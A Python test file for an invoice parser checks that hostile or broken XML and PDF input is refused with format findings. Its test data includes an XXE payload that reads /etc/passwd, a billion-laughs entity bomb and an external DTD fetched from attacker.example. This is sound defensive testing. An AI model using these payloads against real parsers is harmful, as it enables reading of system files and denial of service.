"""Hostile or broken input is refused cleanly with a FORMAT finding, never an exception."""

import io

import pikepdf
import pytest

from invoices.formats.parse import FormatError, parse_xml
from invoices.formats.validate import validate_document

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2">&x;</Invoice>"""
LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><lolz>&lol3;</lolz>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Invoice SYSTEM "http://attacker.example/evil.dtd"><Invoice/>"""


@pytest.mark.parametrize("payload", [XXE, LAUGHS, EXTERNAL_DTD], ids=["xxe", "laughs", "dtd"])
def test_doctype_is_refused(payload):
    with pytest.raises(FormatError) as caught:
        parse_xml(payload)
    assert caught.value.rule_id == "FMT-003"
    report, data = validate_document(payload, "x.xml")
    assert data is None
    assert not report.valid
    assert report.findings[0].rule_id == "FMT-003"
    assert report.findings[0].severity == "fatal"


@pytest.mark.parametrize(
    ("payload", "rule"),
    [
        (b"", "FMT-001"),
        (b"hello", "FMT-001"),
        (b"<a><b></a>", "FMT-004"),
        (b"<?xml version='1.0'?><Foo/>", "FMT-008"),
        (b"<?xml version='1.0'?><: xmlns='-'/>", "FMT-004"),  # found by the fuzzer (CI)
        (b"%PDF-1.7\n garbage", "FMT-005"),
        (
            b'<CrossIndustryDocument xmlns="urn:ferd:CrossIndustryDocument:invoice:1p0"/>',
            "FMT-007",
        ),
    ],
)
def test_unreadable_input_gives_a_format_finding(payload, rule):
    report, data = validate_document(payload, "f")
    assert data is None
    assert [f.rule_id for f in report.findings] == [rule]


def test_pdf_without_embedded_xml_is_refused():
    pdf = pikepdf.new()
    pdf.add_blank_page()
    buffer = io.BytesIO()
    pdf.save(buffer)
    report, _ = validate_document(buffer.getvalue(), "plain.pdf")
    assert report.findings[0].rule_id == "FMT-006"
    assert "aucune facture XML" in report.findings[0].message_fr
